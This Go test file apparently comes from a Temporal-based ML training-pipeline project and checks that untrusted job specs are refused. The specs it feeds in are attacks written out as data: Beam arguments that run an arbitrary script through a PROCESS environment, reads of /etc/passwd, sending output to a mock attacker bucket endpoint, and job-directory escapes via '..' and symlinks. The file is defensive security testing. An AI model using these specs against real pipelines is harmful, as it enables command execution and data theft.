package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	enumspb "go.temporal.io/api/enums/v1"
	"go.temporal.io/sdk/temporal"

	"github.com/trainflow/trainflow/internal/datagen"
	"github.com/trainflow/trainflow/jobspec"
	"github.com/trainflow/trainflow/preprocess"
	"github.com/trainflow/trainflow/workflows"
)

// TestUntrustedSpecs starts, as the Temporal UI would, the job specs of
// each attack of issue 13 on one dev stack whose operator allows one data
// root and the universal runner (no environment that runs a job's own
// command): each is refused, and nothing runs, is read, written or sent.
func TestUntrustedSpecs(t *testing.T) {
	allowed, outside := t.TempDir(), t.TempDir()
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	home := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	st, err := startStack(ctx, stackConfig{
		Home: home, FrontendAddr: "127.0.0.1:0", HTTPAddr: "127.0.0.1:0", Exe: exe,
		Trust:  &trustFlags{dataRoots: listFlag{allowed}, runners: listFlag{jobspec.RunnerUniversal}},
		Logger: slog.New(slog.NewTextHandler(logWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	if err != nil {
		t.Fatal(err)
	}
	trackStack(st)
	t.Cleanup(func() { st.Stop() })

	var good bytes.Buffer
	datagen.Census(&good, 300, 5, false)
	goodTrain := filepath.Join(allowed, "train.csv")
	if err := os.WriteFile(goodTrain, good.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	outsideTrain := filepath.Join(outside, "train.csv")
	if err := os.WriteFile(outsideTrain, good.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	// A bucket endpoint of the attacker's: it must never hear from a job.
	// Only requests for bucket x count (path style /x/..., or virtual-host
	// style x.HOST): on a busy machine a stray client of another test
	// process may dial a port this server reused.
	var requests atomic.Int64
	endpoint := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/x" || strings.HasPrefix(r.URL.Path, "/x/") || strings.HasPrefix(r.Host, "x.") {
			requests.Add(1)
		} else {
			t.Logf("attacker's endpoint: ignored a request not for bucket x: %s %s (Host %s)", r.Method, r.URL.Path, r.Host)
		}
		w.WriteHeader(http.StatusOK)
	}))
	defer endpoint.Close()

	run := func(t *testing.T, id string, spec map[string]any) error {
		t.Helper()
		spec["job_id"] = id
		b, _ := json.Marshal(spec)
		_, err := waitJob(t, startUIStyle(t, st.Client, id, string(b)))
		if err == nil {
			t.Fatalf("job %s succeeded, want it refused", id)
		}
		return err
	}
	refused := func(t *testing.T, id string, spec map[string]any, field string) error {
		t.Helper()
		err := run(t, id, spec)
		var ae *temporal.ApplicationError
		if !errors.As(err, &ae) || ae.Type() != workflows.ErrTypeInvalidSpec || !strings.Contains(err.Error(), field) {
			t.Fatalf("job %s: %v, want InvalidSpec naming %s", id, err, field)
		}
		if scheduled(t, st, id, workflows.PreprocessActivity) {
			t.Fatalf("job %s: preprocessing was scheduled", id)
		}
		return err
	}

	t.Run("ProcessEnvironmentInBeamArgs", func(t *testing.T) {
		marker := filepath.Join(outside, "ran")
		script := filepath.Join(outside, "boot.sh")
		os.WriteFile(script, []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o755)
		refused(t, "attack_beam_args", map[string]any{"preset": "census", "data": map[string]any{"generated_rows": 200,
			"beam_args": []string{"--environment_type=PROCESS", fmt.Sprintf(`--environment_config={"command": %q}`, script)}}}, "data.beam_args[0]")
		// The same through the typed fields: this worker allows the
		// universal runner but no PROCESS environment.
		refused(t, "attack_typed_env", map[string]any{"preset": "census", "data": map[string]any{"generated_rows": 200,
			"runner": "universal", "runner_endpoint": "127.0.0.1:1", "environment_type": "PROCESS",
			"environment_config": fmt.Sprintf(`{"command": %q}`, script)}}, "data.environment_type")
		refused(t, "attack_runner", map[string]any{"preset": "census", "data": map[string]any{"generated_rows": 200,
			"runner": "flink", "runner_endpoint": "127.0.0.1:1"}}, "data.runner")
		if _, err := os.Stat(marker); err == nil {
			t.Fatal("the spec's command ran")
		}
	})

	t.Run("ReadOutsideRootsAndSendToEndpoint", func(t *testing.T) {
		bucket := fmt.Sprintf("s3://x/y?endpoint=%s&anonymous=true", endpoint.URL)
		mbf := 1.0
		for _, c := range []struct {
			id, field string
			spec      map[string]any
		}{
			{"attack_exfil", "job_dir", map[string]any{"preset": "census", "job_dir": bucket,
				"data": map[string]any{"train": []string{goodTrain, "/etc/passwd"}, "eval": []string{goodTrain}, "max_bad_fraction": mbf}}},
			{"attack_passwd", "data.train[1]", map[string]any{"preset": "census",
				"data": map[string]any{"train": []string{goodTrain, "/etc/passwd"}, "eval": []string{goodTrain}, "max_bad_fraction": mbf}}},
			{"attack_outside", "data.eval[0]", map[string]any{"preset": "census",
				"data": map[string]any{"train": []string{goodTrain}, "eval": []string{outsideTrain}}}},
			{"attack_bucket", "job_dir", map[string]any{"preset": "census", "job_dir": "s3://x/y", "data": map[string]any{"generated_rows": 200}}},
			{"attack_data_dir", "data.dir", map[string]any{"preset": "census", "data": map[string]any{"dir": "/etc"}}},
		} {
			err := refused(t, c.id, c.spec, c.field)
			if strings.Contains(err.Error(), "root:") {
				t.Fatalf("job %s: the error quotes /etc/passwd: %v", c.id, err)
			}
			if _, err := os.Stat(filepath.Join(home, "jobs", c.id)); err == nil {
				t.Fatalf("job %s: its job dir was created", c.id)
			}
		}
		if n := requests.Load(); n != 0 {
			t.Fatalf("the spec's endpoint got %d requests, want 0", n)
		}
	})

	t.Run("JobDirEscapes", func(t *testing.T) {
		target := filepath.Join(outside, "escaped")
		rel, _ := filepath.Rel(filepath.Join(allowed, "a", "b"), target)
		refused(t, "attack_dotdot", map[string]any{"preset": "census", "job_dir": filepath.Join(allowed, "a", "b") + "/" + rel,
			"data": map[string]any{"generated_rows": 200}}, "job_dir")
		if err := os.Symlink(outside, filepath.Join(allowed, "link")); err != nil {
			t.Fatal(err)
		}
		refused(t, "attack_symlink", map[string]any{"preset": "census", "job_dir": filepath.Join(allowed, "link", "escaped"),
			"data": map[string]any{"generated_rows": 200}}, "job_dir")
		if _, err := os.Stat(target); !errors.Is(err, os.ErrNotExist) {
			t.Fatalf("the refused jobs wrote %s (stat: %v)", target, err)
		}
	})

	t.Run("HeaderErrorQuotesNoContent", func(t *testing.T) {
		schema := preprocess.CensusSchema()
		schema.Header = true
		var cols []string
		for _, c := range schema.Columns {
			cols = append(cols, c.Name)
		}
		cols[0] = "secret_token_7f3a"
		firstLine := strings.Join(cols, ",")
		f := filepath.Join(allowed, "header.csv")
		os.WriteFile(f, []byte(firstLine+"\n"+good.String()), 0o644)
		err := run(t, "header_1", map[string]any{"data": map[string]any{"schema": schema, "train": []string{f}, "eval": []string{f}}, "model_name": "header"})
		var ae *temporal.ApplicationError
		if !errors.As(err, &ae) || ae.Type() != workflows.ErrTypeBadData || !strings.Contains(err.Error(), f) || !strings.Contains(err.Error(), `"age"`) {
			t.Fatalf("wrong header: %v, want BadData naming the file and the missing column", err)
		}
		if strings.Contains(err.Error(), "secret_token_7f3a") || strings.Contains(err.Error(), firstLine) {
			t.Fatalf("the error quotes the file's first line: %v", err)
		}
	})

	t.Run("FileWithoutValidRowsFails", func(t *testing.T) {
		junk := filepath.Join(allowed, "passwd")
		os.WriteFile(junk, []byte("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"), 0o644)
		err := run(t, "empty_1", map[string]any{"preset": "census",
			"data": map[string]any{"train": []string{goodTrain, junk}, "eval": []string{goodTrain}, "max_bad_fraction": 1}})
		var ae *temporal.ApplicationError
		if !errors.As(err, &ae) || ae.Type() != workflows.ErrTypeBadData || !strings.Contains(err.Error(), junk) || !strings.Contains(err.Error(), "no valid rows") {
			t.Fatalf("file without valid rows: %v, want BadData naming %s", err, junk)
		}
		if strings.Contains(err.Error(), "root:x") {
			t.Fatalf("the error quotes the file: %v", err)
		}
	})
}

// scheduled reports whether the job's history scheduled activity name.
func scheduled(t *testing.T, st *stack, id, name string) bool {
	t.Helper()
	hist := st.Client.GetWorkflowHistory(context.Background(), id, "", false, enumspb.HISTORY_EVENT_FILTER_TYPE_ALL_EVENT)
	for hist.HasNext() {
		ev, err := hist.Next()
		if err != nil {
			t.Fatal(err)
		}
		if a := ev.GetActivityTaskScheduledEventAttributes(); a != nil && a.ActivityType.GetName() == name {
			return true
		}
	}
	return false
}
